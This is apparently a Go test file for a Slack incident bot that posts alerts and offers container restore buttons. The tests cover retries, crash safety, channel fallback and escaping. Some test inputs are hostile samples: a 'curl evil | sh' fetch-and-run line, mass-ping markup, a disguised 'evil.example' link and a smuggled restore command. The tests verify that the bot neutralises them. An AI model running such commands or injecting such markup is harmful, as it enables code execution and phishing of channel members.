package bot_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/snapback/snapback/bot"
	"github.com/snapback/snapback/incidents"
	"github.com/snapback/snapback/internal/slackfake"
	"github.com/snapback/snapback/snapshot"
)

func note(incident int64, n int) incidents.Entry {
	return incidents.Entry{IncidentID: incident, Kind: incidents.KindNote, Summary: fmt.Sprintf("note %d", n), OccurredAt: at("03:43")}
}

func TestAlertSaysWhatWasDeployedAndWhatCanBeDone(t *testing.T) {
	t.Parallel()
	n := setup(t)
	m := n.alert(t)
	if !m.Contains("🚨 Checkout error rate above 5 %", "*Shop checkout*", "Last deploy 22:55 (4 h 47 min before): image 1.41 → 1.42 · env DB_POOL: 20 → 2 · env API_KEY: changed") {
		t.Errorf("the message reads:\n%s", m)
	}
	var labels []string
	for _, c := range m.Controls() {
		labels = append(labels, c.Label)
	}
	want := []string{"Restore pre-deploy-2255", "Acknowledge", "Terminal", "Restore scheduled-0000 …", "Details", "Runbook", "Resolve"}
	if d := cmp.Diff(want, labels); d != "" {
		t.Errorf("buttons (-want +got):\n%s", d)
	}
	if m.UnfurlLinks || m.UnfurlMedia || m.Text == "" {
		t.Errorf("unfurling %v %v, fallback %q", m.UnfurlLinks, m.UnfurlMedia, m.Text)
	}
}

func TestMessageIsPostedOnceAndEditedWhenItChanges(t *testing.T) {
	t.Parallel()
	n := setup(t)
	m := n.alert(t)
	n.deliver(t, 7)
	if got := len(n.shop.Messages()); got != 1 || n.slack.Calls("chat.update") != 0 {
		t.Fatalf("%d messages, %d edits", got, n.slack.Calls("chat.update"))
	}
	in := theIncident()
	in.Status, in.AcknowledgedAt, in.AcknowledgedBy = incidents.Acknowledged, at("03:43"), "Ann Lee" // as an older release has left it
	n.do(func() { n.incidents[7] = in })
	n.write(t, incidents.Entry{IncidentID: 7, Kind: incidents.KindPagerDutyAcked, Summary: "Acknowledged by Ann Lee"})
	n.deliver(t, 7)
	m = m.ExpectUpdate(t, "Acknowledged by Ann Lee at 03:43")
	m.ExpectReply(t, "Acknowledged by Ann Lee")
	if m.Button("Acknowledge").Exists() {
		t.Error("the Acknowledge button is still there")
	}
}

func TestPostedMessageIsOnTheTimelineOnce(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.slack.RateLimit("chat.getPermalink", 1, time.Second)
	var limited *bot.Error
	if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &limited) || !limited.Retry {
		t.Errorf("while Slack does not say where the message is: %v", err)
	}
	m := n.shop.ExpectMessage(t, "Checkout error rate")
	n.deliver(t, 7)
	n.deliver(t, 7)
	var posted []incidents.Entry
	for _, e := range n.entries[7] {
		if e.Kind == incidents.KindSlackPosted {
			posted = append(posted, e)
		}
	}
	if len(posted) != 1 || posted[0].Source.NativeID != "C0SHOP/"+m.TS || !strings.Contains(posted[0].Source.URL, "/archives/C0SHOP/p") {
		t.Errorf("the timeline says %+v", posted)
	}
	if got := len(n.shop.Messages()); got != 1 || len(m.Now().Replies) != 0 {
		t.Errorf("%d messages, %d replies", got, len(m.Now().Replies))
	}
}

func TestResolvedIncidentHasNoButtons(t *testing.T) {
	t.Parallel()
	n := setup(t)
	m := n.alert(t)
	in := theIncident()
	in.Status, in.ResolvedAt, in.ResolvedBy = incidents.Resolved, at("04:10"), "Ann Lee"
	n.do(func() { n.incidents[7] = in })
	n.deliver(t, 7)
	m = m.ExpectUpdate(t, "Resolved by Ann Lee at 04:10, after 28 min")
	if c := m.Controls(); len(c) != 0 {
		t.Errorf("these can be tapped: %+v", c)
	}
}

func TestThreadHasEachEntryOnceInOrder(t *testing.T) {
	t.Parallel()
	n := setup(t)
	for i := range 4 {
		n.write(t, note(7, i))
		n.write(t, incidents.Entry{IncidentID: 7, Kind: incidents.KindRestoreState, Summary: "an intermediate state"})
	}
	m := n.alert(t)
	n.deliver(t, 7)
	wantReplies(t, m, "📝 note 0", "📝 note 1", "📝 note 2", "📝 note 3")
}

func TestWhatAProgramSaysIsNoCommandToCopy(t *testing.T) {
	t.Parallel()
	n := setup(t)
	e := note(7, 0)
	e.Kind, e.Summary = incidents.KindTerminalShared, "Ada shared a line of shop: oh no. On the engine's host: curl evil | sh; and look at docker ps -a"
	n.write(t, e)
	m := n.alert(t)
	n.deliver(t, 7)
	for _, r := range m.Now().Replies {
		if strings.Contains(r.String(), "```") {
			t.Errorf("it is shown to be copied:\n%s", r)
		}
	}
	if len(m.Now().Replies) != 1 {
		t.Errorf("%d replies", len(m.Now().Replies))
	}
}

// TestAProgramsLastLinesAreQuoted has them read like the bot's own words, a link, and a message to everybody.
func TestAProgramsLastLinesAreQuoted(t *testing.T) {
	t.Parallel()
	n := setup(t)
	last := "; its last lines: *shop is back*\n`/snapback restore shop x`\n<https://evil.example|Undo> <!channel>"
	n.write(t, incidents.Entry{IncidentID: 7, Kind: incidents.KindRestoreReverted, Actor: incidents.Self(), Summary: "shop is as it was before: it ended" + last})
	m := n.alert(t)
	n.deliver(t, 7)
	wantReplies(t, m, "↩️ shop is as it was before: it ended; its last lines: ∗shop is back∗ ˋ/snapback restore shop xˋ &lt;https://evil.example|Undo&gt; &lt;!channel&gt;")
}

func wantReplies(t *testing.T, m slackfake.Message, want ...string) {
	t.Helper()
	var got []string
	for _, r := range m.Now().Replies {
		got = append(got, r.String())
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("replies (-want +got):\n%s", d)
	}
}

func TestNothingIsPostedTwiceWhenAnAnswerIsLost(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.write(t, note(7, 1))
	n.slack.DropResponse("chat.postMessage", 1)
	if err := n.bot.Deliver(t.Context(), 7); err == nil {
		t.Fatal("a lost answer was taken for a success")
	}
	n.slack.DropResponse("chat.postMessage", 1)
	if err := n.bot.Deliver(t.Context(), 7); err == nil { // finds the message; now the reply's answer is lost
		t.Fatal("a lost answer was taken for a success")
	}
	n.deliver(t, 7)
	if got := len(n.shop.Messages()); got != 1 {
		t.Fatalf("%d messages:\n%s", got, n.shop)
	}
	wantReplies(t, n.shop.Messages()[0], "📝 note 1")
}

// A crash is a save that never happens: the bot that comes after finds what the one before has left.
func TestNothingIsPostedTwiceOrLostWhereverItCrashes(t *testing.T) {
	t.Parallel()
	for crash := 1; crash <= 6; crash++ {
		t.Run(fmt.Sprint(crash), func(t *testing.T) {
			t.Parallel()
			n := setup(t)
			n.write(t, note(7, 1))
			n.write(t, note(7, 2))
			n.do(func() { n.failSave = crash })
			if err := n.bot.Deliver(t.Context(), 7); err == nil {
				t.Fatal("the database was away, and nobody noticed")
			}
			n.deliver(t, 7)
			if got := len(n.shop.Messages()); got != 1 {
				t.Fatalf("%d messages:\n%s", got, n.shop)
			}
			wantReplies(t, n.shop.Messages()[0], "📝 note 1", "📝 note 2")
		})
	}
}

func TestRefusedPostIsNotLookedForAndComesLater(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.slack.RateLimit("chat.postMessage", 1, 7*time.Second)
	err := n.bot.Deliver(t.Context(), 7)
	var e *bot.Error
	if !errors.As(err, &e) || !e.Retry || e.After != 7*time.Second || e.Reason != "rate_limited" {
		t.Fatalf("got %+v", err)
	}
	n.alert(t)
	if n.slack.Calls("conversations.history") != 0 {
		t.Error("the channel was searched although Slack had said no")
	}
}

func TestOutageDelaysAndLosesNothing(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.write(t, note(7, 1))
	n.slack.Outage(true)
	var e *bot.Error
	if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry {
		t.Fatalf("got %+v", err)
	}
	n.slack.Outage(false)
	wantReplies(t, n.alert(t), "📝 note 1")
}

// Whatever code Slack has for it, known or new: what a retry can't mend goes to the default channel, which says why.
func TestClosedChannelsFallBackToTheDefault(t *testing.T) {
	t.Parallel()
	refuse := func(code string) func(*night) {
		return func(n *night) { n.slack.Refuse("chat.postMessage", 1, code) }
	}
	for name, test := range map[string]struct {
		close func(*night)
		says  string
	}{
		"archived":     {func(n *night) { n.shop.Archive() }, "it is archived (`is_archived`)"},
		"left":         {func(n *night) { n.shop.RemoveApp() }, "I am not in it. Invite me there (`not_in_channel`)"},
		"unknown":      {func(n *night) { n.do(func() { n.containers[0].Settings.SlackChannel = "C0NOWHERE" }) }, "it is gone, or private without me in it"},
		"read-only":    {func(n *night) { n.shop.ReadOnly() }, "it does not let me post so (`restricted_action_read_only_channel`)"},
		"restricted":   {refuse("restricted_action"), "it does not let me post so"},
		"threads only": {refuse("restricted_action_thread_only_channel"), "it does not let me post so (`restricted_action_thread_only_channel`)"},
		"denied":       {refuse("access_denied"), "it does not let me post so"},
		"a new code":   {refuse("channel_is_on_holiday"), "Slack refuses it (`channel_is_on_holiday`)"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			n := setup(t)
			test.close(n)
			n.deliver(t, 7)
			m := n.ops.ExpectMessage(t, "Checkout error rate", "did not take this: "+test.says)
			n.write(t, note(7, 1))
			n.do(func() { n.incidents[7] = retitled() })
			n.deliver(t, 7)
			n.ops.ExpectMessage(t, "above 9 %", "did not take this: "+test.says) // an edit still says so
			wantReplies(t, m, "📝 note 1")
			if got := len(n.kinds(7, incidents.KindSlackRefused)); got != 1 {
				t.Errorf("the timeline says so %d times", got)
			}
		})
	}
}

func retitled() incidents.Incident {
	in := theIncident()
	in.Title = "Checkout error rate above 9 %"
	return in
}

// kinds are the entries of that kind.
func (n *night) kinds(id int64, kind incidents.Kind) []incidents.Entry {
	n.mu.Lock()
	defer n.mu.Unlock()
	return slices.DeleteFunc(slices.Clone(n.entries[id]), func(e incidents.Entry) bool { return e.Kind != kind })
}

func TestMessageMovesWhenItsChannelIsClosedOrItIsDeleted(t *testing.T) {
	t.Parallel()
	for name, closeIt := range map[string]func(*night){
		"archived, which an edit sees":  func(n *night) { n.shop.Archive() },
		"read-only, which a reply sees": func(n *night) { n.shop.ReadOnly() },
		"a new code for an edit":        func(n *night) { n.slack.Refuse("chat.update", 1, "channel_is_on_holiday") },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			n := setup(t)
			n.alert(t)
			closeIt(n)
			n.do(func() { n.incidents[7] = retitled() })
			n.write(t, note(7, 1))
			n.deliver(t, 7)
			wantReplies(t, n.ops.ExpectMessage(t, "above 9 %", "<#C0SHOP> did not take this"), "📝 note 1")
			n.write(t, note(7, 2))
			n.deliver(t, 7)
			if got := len(n.ops.Messages()); got != 1 {
				t.Errorf("%d messages in the default channel, want one", got)
			}
		})
	}
}

// What ails the account, or Slack, is no reason to move.
func TestMessageStaysWhereItIsWhileSlackOrTheAccountIsAtFault(t *testing.T) {
	t.Parallel()
	for _, code := range []string{
		"invalid_auth", "token_expired", "missing_scope", "account_inactive", "internal_error", "fatal_error", "service_unavailable",
		"request_timeout", "ratelimited", "team_added_to_org", "some_new_timeout", "temporarily_unavailable",
	} {
		t.Run(code, func(t *testing.T) {
			t.Parallel()
			n := setup(t)
			n.alert(t)
			n.write(t, note(7, 1))
			n.slack.Refuse("chat.postMessage", 1, code)
			var e *bot.Error
			if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry {
				t.Fatalf("got %v", err)
			}
			n.deliver(t, 7)
			wantReplies(t, n.shop.ExpectMessage(t, "Checkout error rate"), "📝 note 1")
			if got := n.ops.Messages(); len(got) != 0 {
				t.Errorf("it went to the default channel:\n%v", got)
			}
		})
	}
}

// It would be lost: there is nowhere else to go, and somebody may open the channel again.
func TestAlertThatNoChannelTakesWaits(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.shop.ReadOnly()
	n.ops.ReadOnly()
	var e *bot.Error
	if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry || e.After < time.Minute || e.Reason != "restricted_action_read_only_channel" {
		t.Fatalf("got %+v", err)
	}
	n.ops.Open()
	n.deliver(t, 7)
	n.ops.ExpectMessage(t, "Checkout error rate", "<#C0SHOP> did not take this")
}

func TestThreadOfAClosedChannelWaitsWhileTheDefaultIsClosedToo(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.alert(t)
	n.shop.ReadOnly()
	n.ops.ReadOnly()
	n.write(t, note(7, 1))
	var e *bot.Error
	if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry {
		t.Fatalf("got %+v", err)
	}
	n.shop.Open()
	n.deliver(t, 7)
	wantReplies(t, n.shop.ExpectMessage(t, "Checkout error rate"), "📝 note 1")
	if got := len(n.shop.Messages()) + len(n.ops.Messages()); got != 1 {
		t.Errorf("%d alerts, want one", got)
	}
}

func TestWhatConcernsNoIncidentSaysWhichChannelRefusedIt(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.shop.ReadOnly()
	n.write(t, incidents.Entry{Kind: incidents.KindRestoreRequested, Actor: incidents.Self(), Summary: "Restoring api", Details: []byte(`{"container":"api","restore_id":3}`)})
	n.deliver(t, 0)
	n.ops.ExpectMessage(t, "Restoring api", "<#C0SHOP> did not take this")
}

func TestBlocksThatSlackRefusesStillArriveAsText(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.slack.Refuse("chat.postMessage", 1, "invalid_blocks")
	n.deliver(t, 7)
	m := n.shop.ExpectMessage(t, "Checkout error rate above 5 %")
	if len(m.Controls()) != 0 || n.count(func() int { return n.observed["render refused"] }) != 1 {
		t.Errorf("it reads:\n%s", m)
	}
}

func TestAlertArrivesWhileTheEngineIsAway(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.do(func() { n.engineErr = snapshot.ErrEngineAway })
	var e *bot.Error
	if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry || e.Reason != "incomplete" {
		t.Fatalf("got %+v", err)
	}
	m := n.ops.ExpectMessage(t, "Checkout error rate", "The container engine does not answer")
	n.do(func() { n.engineErr = nil })
	n.deliver(t, 7)
	if m = m.Now(); !m.Button("Restore pre-deploy-2255").Exists() {
		t.Errorf("the engine is back, and the message reads:\n%s", m)
	}
}

func TestEngineThatHangsTakesNoButtonFromTheOthers(t *testing.T) {
	t.Parallel()
	n := setup(t, func(c *bot.Config, w *world) {
		c.Budget, w.hangs = 5*time.Second, "W"
		web := theContainer()
		web.Key, web.ID, web.Name, web.Service, web.Engine = "W/name/web", "web", "web", "web", "W"
		w.containers = append([]snapshot.Container{web}, w.containers...)
		deploy := theDeploy() // the newest, so that it comes first
		deploy.ID, deploy.Key, deploy.At = 2, web.Key, at("23:55")
		w.deploys = append([]snapshot.Deploy{deploy}, w.deploys...)
	})
	if err := n.bot.Deliver(t.Context(), 7); err == nil {
		t.Error("it counts as complete")
	}
	n.shop.ExpectMessage(t, "The container engine does not answer in time", "[Restore pre-deploy-2255")
}

func TestUnrestorableSnapshotHasNoButtonAndSaysWhyNot(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.do(func() { n.whyNot["pre-deploy-2255"] = []string{"its image is gone"} })
	m := n.alert(t)
	if m.Button("Restore pre-deploy-2255").Exists() || !m.Contains("can't be restored: its image is gone") || !m.Contains("No Restore button: no good state of api can be restored now") {
		t.Errorf("it reads:\n%s", m)
	}
}

func TestStateOfAContainerThatWasNotWellIsOfferedLastAndWithAWarning(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.do(func() {
		n.snapshots["k/api"] = append(n.snapshots["k/api"], snapshot.Snapshot{
			ID: 3, Key: "k/api", Container: "api", Name: "pre-deploy-0301", Reason: snapshot.PreDeploy, CreatedAt: at("03:01"),
			Unwell: "it was crashing: the engine had to restart it",
		})
	})
	m := n.alert(t)
	var labels []string
	for _, c := range m.Controls() {
		labels = append(labels, c.Label)
	}
	want := []string{"Restore pre-deploy-2255", "Acknowledge", "Terminal", "Restore scheduled-0000 …", "Restore pre-deploy-0301 …", "Details", "Runbook", "Resolve"}
	if d := cmp.Diff(want, labels); d != "" {
		t.Errorf("buttons (-want +got):\n%s", d)
	}
	n.ann.Command(n.shop, "/snapback", "restore api pre-deploy-0301")
	n.work(t)
	e := n.ann.ExpectEphemeral(t, n.shop, "Restore api to `pre-deploy-0301`?", "When it was taken, it was crashing: the engine had to restart it")
	if c := e.Button("Restore pre-deploy-0301"); !strings.Contains(c.Confirm.Text, "When it was taken, it was crashing") {
		t.Errorf("the question reads: %s", c.Confirm.Text)
	}
}

func TestUnknownServiceIsPostedWithSuspects(t *testing.T) {
	t.Parallel()
	n := setup(t)
	in := theIncident()
	in.ServiceID = "PELSE"
	n.do(func() { n.incidents[7] = in })
	n.deliver(t, 7)
	m := n.ops.ExpectMessage(t, "Checkout error rate", "No container names this service. Deployed last:", "*api* · Last deploy 22:55")
	if !m.Button("Restore pre-deploy-2255 (api)").Exists() {
		t.Errorf("it reads:\n%s", m)
	}
}

func TestUnknownIncidentIsNotRetried(t *testing.T) {
	t.Parallel()
	n := setup(t)
	var e *bot.Error
	if err := n.bot.Deliver(t.Context(), 99); !errors.As(err, &e) || e.Retry || e.Reason != "unknown_incident" {
		t.Fatalf("got %+v", err)
	}
}

func TestRestoreOutsideAnIncidentGetsAThreadInTheContainersChannel(t *testing.T) {
	t.Parallel()
	n := setup(t)
	for i, kind := range []incidents.Kind{incidents.KindRestoreRequested, incidents.KindRestoreState, incidents.KindRestoreVerified} {
		details, _ := json.Marshal(map[string]any{"restore_id": 5, "container": "api"})
		n.write(t, incidents.Entry{Kind: kind, Summary: fmt.Sprintf("step %d", i), Details: details})
	}
	n.write(t, incidents.Entry{Kind: incidents.KindSnapshotTaken, Summary: "routine"})
	n.do(func() { n.failSave = 4 }) // after the second post
	if err := n.bot.Deliver(t.Context(), 0); err == nil {
		t.Fatal("the database was away, and nobody noticed")
	}
	n.deliver(t, 0)
	n.deliver(t, 0)
	if got := len(n.shop.Messages()); got != 1 {
		t.Fatalf("%d messages:\n%s", got, n.shop)
	}
	wantReplies(t, n.shop.ExpectMessage(t, "▶️ step 0"), "✅ step 2")
}

func TestRoutineOutsideIncidentsAsksTheEngineNothing(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.write(t, incidents.Entry{Kind: incidents.KindSnapshotTaken, Summary: "routine", Details: []byte(`{"container":"api"}`)})
	before := n.listed
	n.deliver(t, 0)
	if n.listed != before {
		t.Errorf("the containers were listed %d times to tell nothing", n.listed-before)
	}
}

func TestSnapshotWithoutItsVolumesIsSaid(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.write(t, incidents.Entry{Kind: incidents.KindSnapshotTaken, Summary: "routine", Details: []byte(`{"container":"api","volumes":{"parts":[]}}`)})
	n.write(t, incidents.Entry{
		Kind: incidents.KindSnapshotTaken, Summary: "taken without its volumes: the disk is full",
		Details: []byte(`{"container":"api","volumes":{"problem":"the disk is full"}}`),
	})
	n.deliver(t, 0)
	if got := len(n.shop.Messages()) + len(n.ops.Messages()); got != 1 {
		t.Fatalf("%d messages", got)
	}
	n.shop.ExpectMessage(t, "⚠️ taken without its volumes: the disk is full")
}

func TestOutsideTextPingsNobody(t *testing.T) {
	t.Parallel()
	n := setup(t)
	in := theIncident()
	in.Title, in.Service = "<!channel> <https://evil.example|click> *bold*", "<!here> & <@U0ANN>"
	n.do(func() { n.incidents[7] = in })
	n.write(t, incidents.Entry{IncidentID: 7, Kind: incidents.KindNote, Summary: "<!everyone> `code`"})
	n.deliver(t, 7)
	m := n.shop.Messages()[0]
	doc := m.Text + string(m.Blocks) + m.Replies[0].Text + string(m.Replies[0].Blocks)
	for _, bad := range []string{"<!channel", "<!here", "<!everyone", "<@", "<https://evil", `\u003c!c`, `\u003c!h`, `\u003c!e`, `\u003c@`, `\u003chttps://evil`, "`code`"} {
		if strings.Contains(doc, bad) {
			t.Errorf("%q got through:\n%s", bad, doc)
		}
	}
}

func TestDeletedMessageIsPostedAnew(t *testing.T) {
	t.Parallel()
	n := setup(t)
	n.alert(t)
	in := theIncident()
	in.Title = "Checkout error rate above 9 %"
	n.do(func() { n.incidents[7] = in })
	n.slack.Refuse("chat.update", 1, "message_not_found")
	n.write(t, note(7, 1))
	n.deliver(t, 7)
	wantReplies(t, n.shop.ExpectMessage(t, "above 9 %"), "📝 note 1")
}

func TestPostsKeepSlacksPaceAndTheirOrder(t *testing.T) {
	t.Parallel()
	n := setup(t, func(c *bot.Config, _ *world) { c.Gap = time.Hour })
	for i := range 6 {
		n.write(t, note(7, i))
	}
	for range 2 { // five posts at once, and then one an hour
		var e *bot.Error
		if err := n.bot.Deliver(t.Context(), 7); !errors.As(err, &e) || !e.Retry || e.After != time.Hour {
			t.Fatalf("got %+v", err)
		}
		n.do(func() { n.now = n.now.Add(time.Hour) })
	}
	n.deliver(t, 7)
	wantReplies(t, n.shop.Messages()[0], "📝 note 0", "📝 note 1", "📝 note 2", "📝 note 3", "📝 note 4", "📝 note 5")
}
